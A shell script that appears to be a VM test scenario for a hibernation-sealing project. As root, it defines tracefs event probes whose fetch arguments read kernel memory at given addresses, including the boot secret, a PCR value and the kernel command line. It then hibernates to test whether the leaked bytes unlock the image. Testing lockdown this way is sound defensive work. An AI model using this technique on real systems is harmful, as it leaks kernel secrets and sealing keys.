# shellcheck shell=dash disable=SC1091
# attack.eprobe-read, attack.eprobe-deref: root defines an event probe (tracefs's
# dynamic_events, "e:") on sched.sched_process_fork whose fetch arguments read kernel memory by
# address, forks once, and reads what the probe recorded from the trace buffer. Where to read
# comes from the host, which took it from the kernel's System.map and debug info (pahole), as
# root would from a distribution's debug package (tests/vm/tools/kernel-layout.py), on the
# command line:
#   hibseal_vm.eprobe=read   hibseal_vm.at=BANNER,CLOSED,SECRET: @_text+N, eight bytes a read:
#                            linux_banner's first eight, the closed window PCR's 32, the boot
#                            secret's 32
#   hibseal_vm.eprobe=deref  hibseal_vm.at=CMDLINE,LIST,CLOSED,SECRET: deref chains from global
#                            pointers: the string saved_command_line points to, and the 32
#                            bytes at CLOSED and SECRET bytes from the address hibseal's lock
#                            keeps in its wait list (the list's own address while nobody waits)
# With lockdown on, the boot then hibernates, so the host can try what was read as the image's
# key. (Sourced by /init: return.)
. /scenarios/hibernate.sh
T=/sys/kernel/tracing

# arg VALUE: VALUE with its sign, as a fetch argument's offset wants it
arg() {
	if [ "$1" -lt 0 ]; then echo "$1"; else echo "+$1"; fi
}

# reads NAME FORM...: NAME0..NAME3, four eight-byte reads, FORM with the offsets 0, 8, 16, 24
# substituted for @ (FORM "@_text+N" reads at a fixed place, "@(@_text+N)" through a pointer)
reads() {
	local name=$1 form=$2 i=0 out=''
	while [ $i -lt 4 ]; do
		out="$out $name$i=$(echo "$form" | sed "s/OFF/$(($3 + i * 8))/"):x64"
		i=$((i + 1))
	done
	echo "$out"
}

report_platform
mode=$(sed -n 's/.*hibseal_vm\.eprobe=\([a-z]*\).*/\1/p' /proc/cmdline)
at=$(sed -n 's/.*hibseal_vm\.at=\([-0-9,]*\).*/\1/p' /proc/cmdline)
say "pcr14-now=$(tpm2-pcrread /dev/tpmrm0 2>/dev/null | sed -n 's/^pcr-sha256\[14\]=//p')"
say "cmdline=$(tr ' ' '_' </proc/cmdline)"
IFS=, read -r a1 a2 a3 a4 <<EOF
$at
EOF
case "$mode" in
read)
	def="e:hsattack/leak sched.sched_process_fork b0=@_text+$a1:x64"
	def="$def$(reads c "@_text+OFF" "$a2")$(reads s "@_text+OFF" "$a3")"
	;;
deref)
	def="e:hsattack/leak sched.sched_process_fork cmd=+0(@_text+$a1):string"
	def="$def$(reads c "OFF(@_text+$a2)" "$a3" | sed 's/=\([0-9]\)/=+\1/g')"
	def="$def$(reads s "OFF(@_text+$a2)" "$a4" | sed 's/=\([0-9]\)/=+\1/g')"
	;;
*)
	say "error: no hibseal_vm.eprobe= mode"
	return 1
	;;
esac
if mount -t tracefs tracefs $T 2>/tmp/err; then say "tracefs mounted"; else say "tracefs mount-failed error=$(tr '\n' ' ' </tmp/err)"; fi
say "eprobe definition=$(echo "$def" | tr ' ' '_')"
if echo "$def" 2>/tmp/err >>$T/dynamic_events; then
	say "eprobe defined"
	if echo 1 2>/tmp/err >$T/events/hsattack/leak/enable; then
		sh -c true
		echo 0 >$T/events/hsattack/leak/enable
		line=$(sed -n 's/.* leak: ([^)]*) //p' $T/trace | head -n 1)
		say "eprobe fetched ${line:-nothing}"
	else
		say "eprobe enable-refused error=$(tr '\n' ' ' </tmp/err)"
	fi
else
	say "eprobe refused error=$(tr '\n' ' ' </tmp/err)"
fi
[ "$(lockdown_mode)" = none ] && return 0
hibernate_cycle /dev/vdb
